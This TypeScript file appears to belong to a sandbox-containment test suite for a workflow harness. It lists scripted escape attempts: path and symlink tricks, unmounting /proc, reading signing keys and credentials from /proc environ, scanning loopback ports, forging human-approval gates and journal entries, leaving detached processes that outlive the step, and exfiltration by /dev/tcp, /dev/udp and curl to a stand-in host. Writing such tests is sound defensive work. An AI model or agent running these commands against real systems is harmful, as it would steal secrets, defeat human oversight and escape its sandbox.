/**
 * The containment corpus's escape attempts, as data: what each one runs (bash, inside the step,
 * contract, postcondition, rollback or agent that tries it) and how the corpus judges, from outside,
 * whether it got out. The attempts print only hashes of what they read and only the planted
 * values they look for, never a file's or an environment's content: run unsandboxed (the
 * corpus's control) they read the machine as its user does.
 *
 * Each attempt runs with these variables (hints/env.sh, written by the corpus once the run waits
 * at its human step, as if the attacker knew everything the harness knows): ACTOR, WS, OUTSIDE
 * (a directory beside the workspace), STORE, ANCHOR_DIR, ARN, ENDPOINTS (the run's
 * loopback URLs), LPORT (a loopback listener of the corpus), HOSTIP/XPORT/UPORT (listeners on this
 * machine's own address, standing for the outside world), CLI (the plangate CLI), TICKET.
 */

export const ATTEMPT_CLASSES = [
  'write outside the workspace',
  'lift the sandbox',
  'read the store and the keys',
  "read the harness's credentials",
  "reach the run's loopback endpoints",
  "reach this machine's other loopback services",
  'answer a gate or complete a human step',
  'outlive the step',
  'exfiltrate through the network',
] as const;
export type AttemptClass = (typeof ATTEMPT_CLASSES)[number];

/** How the corpus sees, from outside, that an attempt got out. */
export type Judge =
  /** `$OUTSIDE/<actor>-<name>` exists. */
  | { readonly kind: 'marker' }
  /** The outside file (beside the workspace) holds `<actor>-<name>`. */
  | { readonly kind: 'appended'; readonly file: 'target' | 'planted-target' }
  /** The attempt's output holds a secret: a key's or the session's hash, a planted credential. */
  | { readonly kind: 'secret' }
  /** One of the run's own endpoints (not any other port) served the attempt: answered other than with the guard's refusal of plan code. */
  | { readonly kind: 'reached' }
  /** A listener of the corpus got `<actor> <name>` (or `/<actor>/<name>`). */
  | { readonly kind: 'listener'; readonly listener: 'loopback' | 'outside' }
  /** The attempt's ticket is in the run's journal or its output: it answered, or wrote the journal. */
  | { readonly kind: 'ticket' }
  /** `late/plangate-contain-<actor>-<name>` was written after the step ended, or the process still runs. */
  | { readonly kind: 'late' };

export interface Attempt {
  readonly name: string;
  readonly class: AttemptClass;
  /** bash, run in the workspace as the actor; its exit code and output are kept in attempts/<actor>/. */
  readonly script: string;
  readonly judge: Judge;
  /** Only inside a sandbox: outside one it would act on the machine itself (unmount its /proc). */
  readonly sandboxedOnly?: boolean;
  /** Only for actors that run while the human step waits (there is nothing to answer later). */
  readonly whileGateWaits?: boolean;
  /** Why the sandbox does not contain it, where that is known and documented (docs/workers.md). */
  readonly gap?: string;
}

/** The hash of each file named (nothing when it cannot be read). */
const SHA = 'sha() { for f in "$@"; do sha256sum "$f" 2>/dev/null | cut -c1-64; done; }';
/** Only the planted values, never the rest of an environment. */
const PLANTED = "grep -ao 'plangate-contain-secret-[a-z0-9-]*'";
const HOME_DIR = 'h=$(getent passwd "$(id -u)" | cut -d: -f6)';
const LATE = (how: string) =>
  `${how} bash -c 'sleep 4; echo late > "late/$0"' "plangate-contain-$ACTOR-$NAME"`;
const ATTACK = 'node attack.mjs';

export const ATTEMPTS: readonly Attempt[] = [
  // Write outside the workspace, by every path spelling and link.
  {
    name: 'absolute-path',
    class: 'write outside the workspace',
    judge: { kind: 'marker' },
    script: 'echo x > "$OUTSIDE/$ACTOR-$NAME"',
  },
  {
    name: 'dot-dot',
    class: 'write outside the workspace',
    judge: { kind: 'marker' },
    script: 'echo x > "../outside/$ACTOR-$NAME"',
  },
  {
    name: 'cd-up',
    class: 'write outside the workspace',
    judge: { kind: 'marker' },
    script: 'cd .. && echo x > "outside/$ACTOR-$NAME"',
  },
  {
    name: 'planted-symlink',
    class: 'write outside the workspace',
    judge: { kind: 'marker' },
    script: 'echo x > "planted-link/$ACTOR-$NAME"',
  },
  {
    name: 'proc-self-root',
    class: 'write outside the workspace',
    judge: { kind: 'marker' },
    script: 'echo x > "/proc/self/root$OUTSIDE/$ACTOR-$NAME"',
  },
  {
    name: 'proc-self-cwd',
    class: 'write outside the workspace',
    judge: { kind: 'marker' },
    script: 'echo x > "/proc/self/cwd/../outside/$ACTOR-$NAME"',
  },
  {
    name: 'symlink-then-write',
    class: 'write outside the workspace',
    judge: { kind: 'marker' },
    script: 'ln -sfn "$OUTSIDE" "made-link-$ACTOR" && echo x > "made-link-$ACTOR/$ACTOR-$NAME"',
  },
  {
    name: 'move-out',
    class: 'write outside the workspace',
    judge: { kind: 'marker' },
    script: 'echo x > "mv-$ACTOR" && mv "mv-$ACTOR" "$OUTSIDE/$ACTOR-$NAME"',
  },
  {
    name: 'hard-link-then-write',
    class: 'write outside the workspace',
    judge: { kind: 'appended', file: 'target' },
    script: 'ln "$OUTSIDE/target" "hard-$ACTOR" && echo "$ACTOR-$NAME" >> "hard-$ACTOR"',
  },
  {
    name: 'planted-hard-link',
    class: 'write outside the workspace',
    judge: { kind: 'appended', file: 'planted-target' },
    gap: 'a hard link someone else made in the workspace before the run is the outside file itself: bubblewrap binds directories and cannot tell (plan code cannot make one: hard-link-then-write)',
    script: 'echo "$ACTOR-$NAME" >> planted-hard',
  },
  // Lift the sandbox itself: what a process holding capabilities (a harness run as root) could.
  {
    name: 'unmount-the-store',
    class: 'lift the sandbox',
    judge: { kind: 'secret' },
    sandboxedOnly: true,
    script: `${SHA}; umount -l "$STORE"; sha "$STORE/approval-signing.key" "$STORE/session.json"`,
  },
  {
    name: 'remount-root-writable',
    class: 'lift the sandbox',
    judge: { kind: 'marker' },
    sandboxedOnly: true,
    script: 'mount -o remount,rw / && echo x > "$OUTSIDE/$ACTOR-$NAME"',
  },
  {
    name: 'unmount-proc',
    class: 'lift the sandbox',
    judge: { kind: 'secret' },
    sandboxedOnly: true,
    script: `umount -l /proc && for f in /proc/[0-9]*/environ; do ${PLANTED} "$f"; done`,
  },
  {
    name: 'new-user-namespace',
    class: 'lift the sandbox',
    judge: { kind: 'secret' },
    sandboxedOnly: true,
    script: `unshare -rm bash -c '${SHA}; umount -l "$STORE"; sha "$STORE/approval-signing.key"'`,
  },
  // Read the store (its link signing key, its session) and the anchor key.
  {
    name: 'link-key-at-its-path',
    class: 'read the store and the keys',
    judge: { kind: 'secret' },
    script: `${SHA}; sha "$STORE/approval-signing.key"`,
  },
  {
    name: 'keys-at-default-paths',
    class: 'read the store and the keys',
    judge: { kind: 'secret' },
    script: `${SHA}; ${HOME_DIR}; sha "$h"/.local/state/plangate/stores/*/approval-signing.key "$h/.config/plangate/anchor-key"`,
  },
  {
    name: 'session-file',
    class: 'read the store and the keys',
    judge: { kind: 'secret' },
    script: `${SHA}; sha "$STORE/session.json"`,
  },
  {
    name: 'anchor-key-at-its-path',
    class: 'read the store and the keys',
    judge: { kind: 'secret' },
    script: `${SHA}; sha "$ANCHOR_DIR/anchor-key"`,
  },
  {
    name: 'search-the-disk',
    class: 'read the store and the keys',
    judge: { kind: 'secret' },
    script:
      'timeout 90 find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o \\( -name approval-signing.key -o -name anchor-key -o -name session.json \\) -type f -print 2>/dev/null | head -500 | xargs -r sha256sum 2>/dev/null | cut -c1-64',
  },
  {
    name: 'via-proc-ppid-root',
    class: 'read the store and the keys',
    judge: { kind: 'secret' },
    script: `${SHA}; sha "/proc/$PPID/root$STORE/approval-signing.key" "/proc/$PPID/root$ANCHOR_DIR/anchor-key"`,
  },
  {
    name: 'via-every-proc-root',
    class: 'read the store and the keys',
    judge: { kind: 'secret' },
    script: `${SHA}; for p in /proc/[0-9]*; do sha "$p/root$STORE/approval-signing.key" "$p/root$ANCHOR_DIR/anchor-key"; done`,
  },
  // Read the AWS credentials the harness holds.
  {
    name: 'own-environment',
    class: "read the harness's credentials",
    judge: { kind: 'secret' },
    script: `env | ${PLANTED}`,
  },
  {
    name: 'proc-self-environ',
    class: "read the harness's credentials",
    judge: { kind: 'secret' },
    script: `${PLANTED} /proc/self/environ`,
  },
  {
    name: 'proc-ppid-environ',
    class: "read the harness's credentials",
    judge: { kind: 'secret' },
    script: `${PLANTED} "/proc/$PPID/environ"`,
  },
  {
    name: 'every-proc-environ',
    class: "read the harness's credentials",
    judge: { kind: 'secret' },
    script: `for f in /proc/[0-9]*/environ; do ${PLANTED} "$f"; done`,
  },
  // Reach the run's loopback endpoints, knowing them or finding them.
  {
    name: 'known-endpoints',
    class: "reach the run's loopback endpoints",
    judge: { kind: 'reached' },
    script: `${ATTACK} reach $ENDPOINTS`,
  },
  {
    name: 'ports-from-proc-net-tcp',
    class: "reach the run's loopback endpoints",
    judge: { kind: 'reached' },
    script: `${ATTACK} scan`,
  },
  {
    name: 'ports-from-ss',
    class: "reach the run's loopback endpoints",
    judge: { kind: 'reached' },
    script: `${ATTACK} ports $(ss -ltnH 2>/dev/null | awk '{print $4}' | sed 's/.*://')`,
  },
  {
    name: 'endpoints-from-env',
    class: "reach the run's loopback endpoints",
    judge: { kind: 'reached' },
    script: `${ATTACK} reach $(env | grep -o 'http://[^ ]*')`,
  },
  {
    name: 'loopback-listener',
    class: "reach this machine's other loopback services",
    judge: { kind: 'listener', listener: 'loopback' },
    script: 'exec 3<>"/dev/tcp/127.0.0.1/$LPORT" && echo "$ACTOR $NAME" >&3',
  },
  {
    name: 'localhost-listener',
    class: "reach this machine's other loopback services",
    judge: { kind: 'listener', listener: 'loopback' },
    script: 'exec 3<>"/dev/tcp/localhost/$LPORT" && echo "$ACTOR $NAME" >&3',
  },
  // Answer its own gate or complete its human step, on every channel it could find.
  {
    name: 'plangate-complete',
    class: 'answer a gate or complete a human step',
    judge: { kind: 'ticket' },
    whileGateWaits: true,
    script: 'timeout 120 $CLI complete "$ARN" review --value "review_ticket=$TICKET" --store "$STORE"',
  },
  {
    name: 'engine-send-task-success',
    class: 'answer a gate or complete a human step',
    judge: { kind: 'ticket' },
    whileGateWaits: true,
    script: `${ATTACK} engine "$TICKET" $ENDPOINTS`,
  },
  {
    name: 'approvals-api',
    class: 'answer a gate or complete a human step',
    judge: { kind: 'ticket' },
    whileGateWaits: true,
    script: `${ATTACK} approvals "$TICKET" $ENDPOINTS`,
  },
  {
    name: 'write-the-journal',
    class: 'answer a gate or complete a human step',
    judge: { kind: 'ticket' },
    whileGateWaits: true,
    script: `${ATTACK} journal "$TICKET" "$ARN" $ENDPOINTS`,
  },
  // Leave a child that writes after the step ended.
  {
    name: 'setsid',
    class: 'outlive the step',
    judge: { kind: 'late' },
    script: `${LATE('setsid')} < /dev/null > /dev/null 2>&1 &`,
  },
  {
    name: 'setsid-fork',
    class: 'outlive the step',
    judge: { kind: 'late' },
    script: `${LATE('setsid -f')} < /dev/null > /dev/null 2>&1`,
  },
  {
    name: 'nohup',
    class: 'outlive the step',
    judge: { kind: 'late' },
    script: `${LATE('nohup')} < /dev/null > /dev/null 2>&1 &`,
  },
  {
    name: 'double-fork',
    class: 'outlive the step',
    judge: { kind: 'late' },
    script: `( ( ${LATE('')} < /dev/null > /dev/null 2>&1 & ) & )`,
  },
  {
    name: 'disown',
    class: 'outlive the step',
    judge: { kind: 'late' },
    script: `${LATE('')} < /dev/null > /dev/null 2>&1 & disown`,
  },
  // Send what it has to the outside world (this machine's own address stands for it).
  {
    name: 'tcp',
    class: 'exfiltrate through the network',
    judge: { kind: 'listener', listener: 'outside' },
    script: 'exec 3<>"/dev/tcp/$HOSTIP/$XPORT" && echo "$ACTOR $NAME" >&3',
  },
  {
    name: 'udp',
    class: 'exfiltrate through the network',
    judge: { kind: 'listener', listener: 'outside' },
    script: 'echo "$ACTOR $NAME" > "/dev/udp/$HOSTIP/$UPORT"',
  },
  {
    name: 'tar-to-curl',
    class: 'exfiltrate through the network',
    judge: { kind: 'listener', listener: 'outside' },
    script: 'tar cz attempts 2>/dev/null | curl -sS -m 5 -T - "http://$HOSTIP:$XPORT/$ACTOR/$NAME"',
  },
  {
    name: 'node-fetch',
    class: 'exfiltrate through the network',
    judge: { kind: 'listener', listener: 'outside' },
    script: `${ATTACK} reach "http://$HOSTIP:$XPORT/$ACTOR/$NAME"`,
  },
];

/** Who tries: every kind of plan process the harness starts, and whether a human step waits meanwhile. */
export interface Actor {
  readonly name: string;
  readonly whileGateWaits: boolean;
}

/** attempts.sh: every attempt, for the actor named by its first argument; always exits 0. */
export function attemptsScript(attempts: readonly Attempt[], actors: readonly Actor[]): string {
  const lines = [
    '#!/usr/bin/env bash',
    '# Written by bench/reliability/containment.ts: escape attempts, each judged from outside.',
    'ACTOR=$1',
    'for _ in $(seq 1 1500); do [ -s hints/env.sh ] && break; sleep 0.2; done',
    '. hints/env.sh',
    'export STORE ANCHOR_DIR',
    'mkdir -p "attempts/$ACTOR" late',
    'waits=false',
    `case $ACTOR in ${actors.map((a, i) => `${a.name}) TICKET_BASE=${ticketBase(i)}; waits=${a.whileGateWaits} ;;`).join(' ')} esac`,
    // pid 1 of bubblewrap's PID namespace is bwrap itself; outside one it is the machine's init.
    'inside=false; [ "$(cat /proc/1/comm 2>/dev/null)" = bwrap ] && inside=true',
  ];
  attempts.forEach((attempt, i) => {
    const fn = `attempt_${i}`;
    lines.push(`${fn}() {`, attempt.script, '}');
    // In a subshell of its own: an attempt's cd or exec must not change the ones after it.
    const run = `NAME=${attempt.name} TICKET="CR-$((TICKET_BASE + ${i}))"; (${fn}) > "attempts/$ACTOR/${attempt.name}.out" 2>&1 < /dev/null; echo $? > "attempts/$ACTOR/${attempt.name}.rc"`;
    const guards = [attempt.sandboxedOnly ? '$inside' : '', attempt.whileGateWaits ? '$waits' : ''].filter(
      Boolean,
    );
    lines.push(guards.length > 0 ? `if ${guards.join(' && ')}; then ${run}; fi` : run);
  });
  lines.push('exit 0', '');
  return lines.join('\n');
}

/** The ticket an attempt reports: unique per actor and attempt, and a valid `CR-<n>`. */
export function ticketOf(actorIndex: number, attemptIndex: number): string {
  return `CR-${ticketBase(actorIndex) + attemptIndex}`;
}

function ticketBase(actorIndex: number): number {
  return 70_000 + actorIndex * 1_000;
}

/**
 * attack.mjs: what a script needs to talk to the run's loopback services as an attacker would:
 * probe URLs and ports (from /proc/net/tcp too), scan the local DynamoDB's tables for gates and
 * their task tokens, answer the human step's task on the engine, answer through the approvals API
 * as whoever `x-plangate-user` names, and write an event into the journal's table.
 */
export const ATTACK_SCRIPT = String.raw`
import { readFileSync } from 'node:fs';
const [command, ...args] = process.argv.slice(2);
const say = (line) => process.stdout.write(line + '\n');
const timeout = () => AbortSignal.timeout(3000);
const AMZ = {
  'content-type': 'application/x-amz-json-1.0',
  authorization: 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00',
  'x-amz-date': '20260101T000000Z',
};
async function probe(url) {
  try {
    const response = await fetch(url, { signal: timeout() });
    const text = await response.text();
    // Connected, but refused by the guard before any handler: the endpoint served nothing.
    if (text.includes('comes from plan code')) {
      say('REFUSED ' + url + ' HTTP ' + response.status + ': ' + text.slice(0, 200));
      return false;
    }
    say('REACHED ' + url + ' HTTP ' + response.status);
    return true;
  } catch (error) {
    say('not reached ' + url + ': ' + (error.cause?.code ?? error.message));
    return false;
  }
}
async function amz(url, target, body) {
  try {
    const response = await fetch(url, { method: 'POST', headers: { ...AMZ, 'x-amz-target': target }, body: JSON.stringify(body), signal: timeout() });
    const text = await response.text();
    return { status: response.status, json: JSON.parse(text || '{}') };
  } catch (error) {
    return { status: 0, json: {}, error: error.cause?.code ?? error.message };
  }
}
function loopbackPorts() {
  const ports = new Set();
  for (const file of ['/proc/net/tcp', '/proc/net/tcp6']) {
    let text = '';
    try { text = readFileSync(file, 'utf8'); } catch { continue; }
    for (const line of text.trim().split('\n').slice(1)) {
      const [, local, , state] = line.trim().split(/\s+/);
      if (state === '0A' && local) ports.add(Number.parseInt(local.split(':')[1], 16));
    }
  }
  return [...ports];
}
async function items(urls) {
  const found = [];
  for (const url of urls) {
    const tables = await amz(url, 'DynamoDB_20120810.ListTables', {});
    for (const table of tables.json.TableNames ?? []) {
      const scan = await amz(url, 'DynamoDB_20120810.Scan', { TableName: table, Limit: 500 });
      for (const item of scan.json.Items ?? []) found.push({ url, table, item });
    }
  }
  say('items found: ' + found.length);
  return found;
}
const urls = (list) => list.filter((u) => u.startsWith('http'));
let success = false;
if (command === 'reach') for (const url of urls(args)) success = (await probe(url)) || success;
if (command === 'scan' || command === 'ports') {
  const ports = command === 'scan' ? loopbackPorts() : args.map(Number).filter((p) => p > 0);
  say('ports: ' + ports.join(' '));
  for (const port of ports) success = (await probe('http://127.0.0.1:' + port + '/')) || success;
}
if (command === 'engine') {
  const [ticket, ...rest] = args;
  const gates = (await items(urls(rest))).filter(({ item }) => item.taskToken?.S);
  for (const { item } of gates)
    for (const url of urls(rest)) {
      const stepId = item.stepId?.S ?? 'review';
      const attempt = Number(item.human?.M?.attempt?.N ?? 1);
      const output = { stepId, status: 'succeeded', attempt, durationMs: 1, output: { review_ticket: ticket } };
      const sent = await amz(url, 'AWSStepFunctions.SendTaskSuccess', { taskToken: item.taskToken.S, output: JSON.stringify(output) });
      say('SendTaskSuccess ' + url + ' ' + sent.status);
      if (sent.status === 200) success = true;
    }
}
if (command === 'approvals') {
  const [ticket, ...rest] = args;
  const gates = (await items(urls(rest))).filter(({ item }) => item.approvalId?.S);
  const ids = [...gates.map(({ item }) => ({ id: item.approvalId.S, digest: item.planDigest?.S })), { id: 'guess', digest: 'x' }];
  for (const { id, digest } of ids)
    for (const url of urls(rest))
      for (const path of ['/approvals/' + encodeURIComponent(id), '/approvals/' + encodeURIComponent(id) + '/as-recipient']) {
        try {
          const response = await fetch(url + path, {
            method: 'POST',
            headers: { 'content-type': 'application/json', accept: 'application/json', 'x-plangate-user': process.env.USER ?? 'root' },
            body: JSON.stringify({ digest, decision: 'DONE', outputs: { review_ticket: ticket } }),
            signal: timeout(),
          });
          say('POST ' + url + path + ' ' + response.status);
          if (response.ok) success = true;
        } catch (error) {
          say('POST ' + url + path + ' failed: ' + (error.cause?.code ?? error.message));
        }
      }
}
if (command === 'journal') {
  const [ticket, execution, ...rest] = args;
  for (const url of urls(rest)) {
    const tables = await amz(url, 'DynamoDB_20120810.ListTables', {});
    for (const table of (tables.json.TableNames ?? []).filter((t) => /event/i.test(t))) {
      const described = await amz(url, 'DynamoDB_20120810.DescribeTable', { TableName: table });
      const types = Object.fromEntries((described.json.Table?.AttributeDefinitions ?? []).map((a) => [a.AttributeName, a.AttributeType]));
      const item = { event: { S: 'GATE_APPROVED' }, details: { M: { by: { S: ticket } } } };
      for (const key of described.json.Table?.KeySchema ?? []) {
        const type = types[key.AttributeName] ?? 'S';
        // The ticket's number as the sort key: each attempt its own item, none overwriting another's.
        const seq = ticket.replace(/\D/g, '');
        item[key.AttributeName] = key.KeyType === 'HASH' ? { [type]: type === 'N' ? '1' : execution } : { [type]: seq };
      }
      const put = await amz(url, 'DynamoDB_20120810.PutItem', { TableName: table, Item: item });
      say('PutItem ' + table + ' ' + put.status);
      if (put.status === 200) success = true;
    }
  }
}
process.exit(success ? 0 : 1);
`;
